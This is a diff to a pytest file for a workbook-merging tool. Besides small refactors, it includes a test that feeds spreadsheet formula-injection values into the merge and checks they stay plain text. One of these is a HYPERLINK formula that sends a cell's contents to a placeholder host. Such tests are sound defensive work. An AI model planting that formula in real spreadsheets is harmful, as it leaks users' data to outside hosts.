@@ -20,7 +20,7 @@ from pathlib import Path
 import corpus
 import pytest
 from agencies import agency, code, dated, write
-from batches import FMT, fingerprint, nianbao, roster, rows_of, summed, table_values
+from batches import FMT, detail_row_xml, fingerprint, nianbao, roster, rows_of, sheet_contents, summed, table_values
 from openpyxl import load_workbook
 
 from xlsx_tools.layout import workbook_layout
@@ -301,28 +301,19 @@ def test_same_inputs_in_any_order_give_identical_content(tmp_path):
     for order in (files, files[::-1], [files[2], files[0], files[3], files[1]]):
         out = tmp_path / f"out{len(contents)}.xlsx"
         assert nianbao("merge", *order, "-o", out, "--jobs", "2").returncode in (0, 1)
-        wb = load_workbook(out)
-        contents.append({ws.title: [tuple(r) for r in ws.iter_rows(values_only=True)] for ws in wb})
+        contents.append(sheet_contents(out))
     assert contents[0] == contents[1] == contents[2]
 
 
 def test_agency_text_that_looks_like_a_formula_stays_text(tmp_path):
-    import re
-    import zipfile
-
-    from xlsx_tools.container import open_package
-
     folder = tmp_path / "in"
     hostile = {"id.name": '=HYPERLINK("http://x/?"&A1,"点击")', "id.filler": "@SUM(A1)", "id.phone": "+86 0379-1"}
     write(folder / "a.xlsx", agency(0, hostile))
     out = tmp_path / "汇总.xlsx"
     run = nianbao("merge", folder, "-o", out)
     assert run.returncode == 0, run.stdout + run.stderr
-    data = out.read_bytes()
-    part = open_package(data, "x").sheets[FMT.summary["detail"]["sheet"]]
-    xml = zipfile.ZipFile(out).read(part).decode()
-    row = re.search(r'<row r="4">.*?</row>', xml).group()
-    assert "<f>" not in row and 'HYPERLINK(&quot;' not in row
+    row = detail_row_xml(out, "@SUM(A1)")
+    assert row.startswith('<row r="4"') and "<f>" not in row and 'HYPERLINK(&quot;' not in row
     wb = load_workbook(out)
     detail = list(wb[FMT.summary["detail"]["sheet"]].iter_rows(min_row=4, max_row=4, values_only=True))[0]
     assert detail[0] == hostile["id.name"] and detail[5] == hostile["id.filler"] and detail[6] == hostile["id.phone"]
